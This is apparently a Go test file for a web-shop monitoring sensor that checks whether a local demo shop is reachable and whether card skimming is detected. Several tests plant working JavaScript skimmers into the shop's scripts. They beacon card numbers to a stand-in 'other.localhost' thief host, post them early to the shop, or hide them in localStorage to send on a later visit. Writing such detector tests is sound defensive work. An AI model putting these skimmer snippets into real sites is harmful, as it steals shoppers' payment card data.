package page

import (
	"context"
	"errors"
	"net"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/tillwatch/tillwatch"
	"github.com/tillwatch/tillwatch/demoshop"
)

// observe looks at an address and gives what the sensor reported.
func observe(t *testing.T, c Config, address string) (signs []tillwatch.Sign, gaps []tillwatch.Gap, passed bool) {
	t.Helper()
	sensor, err := New(c)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(t.Context(), 5*time.Minute)
	defer cancel()
	err = sensor.Observe(ctx, tillwatch.Target{Kind: tillwatch.KindPage, Place: address}, func(o tillwatch.Observation) error {
		switch o := o.(type) {
		case tillwatch.Sign:
			signs = append(signs, o)
		case tillwatch.Gap:
			gaps = append(gaps, o)
		case tillwatch.Pass:
			passed = true
		case tillwatch.Item:
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return signs, gaps, passed
}

// wantGap wants a gap that says words, or one of several with a | between.
func wantGap(t *testing.T, gaps []tillwatch.Gap, words string) {
	t.Helper()
	for _, g := range gaps {
		for _, w := range strings.Split(words, "|") {
			if strings.Contains(g.Why, w) {
				return
			}
		}
	}
	var whys []string
	for _, g := range gaps {
		whys = append(whys, g.Why)
	}
	t.Errorf("no gap says %q: %q", words, whys)
}

// Whatever a shop does to its visitors, the look ends, says why, and never says that it saw the shop.
func TestTrouble(t *testing.T) {
	t.Parallel()
	for kind, words := range map[demoshop.TroubleKind]string{
		demoshop.Maintenance:  "maintenance",
		demoshop.RedirectLoop: "redirects without end",
		demoshop.AlertLoop:    "dialogs",
		demoshop.BusyLoop:     "does not answer",
		demoshop.NeverEnds:    "never comes to rest",
		demoshop.Huge:         "does not answer",
		demoshop.Download:     "a download, not a page",
		demoshop.Crash:        "crashed|does not answer", // a renderer may take its time to die
	} {
		t.Run(string(kind), func(t *testing.T) {
			t.Parallel()
			shop := openShop(t, demoshop.Config{Trouble: demoshop.Trouble{Kind: kind}})
			_, gaps, passed := observe(t, Config{}, shop.URL("shop.localhost"))
			wantGap(t, gaps, words)
			if passed {
				t.Error("a shop that was not seen was passed")
			}
		})
	}
}

func TestNoAnswer(t *testing.T) {
	t.Parallel()
	silent, err := net.Listen("tcp", "127.0.0.1:0") // a port that nobody listens at a moment later
	if err != nil {
		t.Fatal(err)
	}
	silent.Close()
	shop := openShop(t, demoshop.Config{})
	for words, address := range map[string]string{
		"connection refused":   "http://" + silent.Addr().String() + "/",
		"cannot be resolved":   "http://no-such-shop.invalid/",
		"TLS error":            shop.TLSURL("shop.localhost"),
		"not HTTP":             strings.Replace(shop.URL("shop.localhost"), "http:", "https:", 1),
		"cannot be opened":     shop.URL("cdn.localhost"),
		"no address of a shop": "nonsense",
	} {
		_, gaps, passed := observe(t, Config{}, address)
		wantGap(t, gaps, words)
		if passed || len(gaps) == 0 {
			t.Errorf("%s: passed %v", address, passed)
		}
	}
}

// plant adds code to a script of the shop's, as somebody who got at its files would.
func plant(t *testing.T, shop *demoshop.Shop, name, code string) {
	t.Helper()
	f, err := os.OpenFile(filepath.Join(shop.Docroot(), "assets", "js", name), os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	_, err = f.WriteString(code)
	if err := errors.Join(err, f.Close()); err != nil {
		t.Fatal(err)
	}
}

// Over TLS the witness opens what the browser sends, so that a leak is seen there as well; and a look leaves nothing behind.
func TestALeakOverTLS(t *testing.T) {
	t.Parallel()
	shop := openShop(t, demoshop.Config{})
	thief := strings.TrimSuffix(shop.TLSURL("other.localhost"), "/")
	plant(t, shop, "checkout.js", `
document.addEventListener('change', e => /^\d[\d ]{14,}$/.test(e.target.value) && navigator.sendBeacon('`+thief+`/b', e.target.value));`)
	roots, err := readRoots(shop.CAFile())
	if err != nil {
		t.Fatal(err)
	}
	signs, gaps, _ := observe(t, Config{Roots: roots}, shop.TLSURL("shop.localhost"))
	if len(gaps) > 0 {
		t.Errorf("not seen: %q", gaps[0].Why)
	}
	if len(signs) == 0 || signs[0].Severity != tillwatch.Critical || !strings.Contains(signs[0].Place, "other.localhost") {
		t.Errorf("a beacon with the card number over TLS gave %+v", signs)
	}
	if u, _ := url.Parse(thief); len(signs) > 0 && !strings.Contains(signs[0].Evidence[0].Destination, u.Host) {
		t.Errorf("%+v", signs[0].Evidence)
	}
}

// A shop, or whoever changed it, may send the card as soon as it is complete. That is seen, and the shop does not get it.
func TestNoCardReachesTheShopBeforeTheLastButton(t *testing.T) {
	t.Parallel()
	shop := openShop(t, demoshop.Config{})
	plant(t, shop, "checkout.js", `
document.addEventListener('change', e => /^[\d ]{15,}$/.test(e.target.value) && fetch('/early-order', {method: 'POST', body: btoa(e.target.value)}));`)
	signs, _, _ := observe(t, Config{}, shop.URL("shop.localhost"))
	if len(signs) == 0 || signs[0].Severity != tillwatch.High || !strings.Contains(signs[0].Place, "early-order") {
		t.Errorf("a card sent to the shop itself before the last button gave %+v", signs)
	}
	log, err := os.ReadFile(filepath.Join(shop.State(), "log", "access.log"))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(log), "POST /cart/add") || strings.Contains(string(log), "early-order") {
		t.Error("the shop got the card before the last button, or its log is not where it should be")
	}
}

// What a skimmer hid in the browser on one visit leaves on the next, and is still known for what it is.
func TestAReturningCustomer(t *testing.T) {
	t.Parallel()
	shop := openShop(t, demoshop.Config{})
	plant(t, shop, "shop.js", `
if (localStorage.theme_cache) navigator.sendBeacon('`+shop.URL("other.localhost")+`t', localStorage.theme_cache);
document.addEventListener('change', e => { if (/^[\d ]{15,}$/.test(e.target.value)) localStorage.theme_cache = btoa(e.target.value); });`)
	signs, gaps, _ := observe(t, Config{Profiles: []string{"returning"}}, shop.URL("shop.localhost"))
	if len(gaps) > 0 {
		t.Errorf("not seen: %q", gaps[0].Why)
	}
	if len(signs) == 0 || signs[0].Severity != tillwatch.Critical || !strings.Contains(signs[0].Place, "other.localhost") {
		t.Errorf("a card that left on the second visit gave %+v", signs)
	}
}
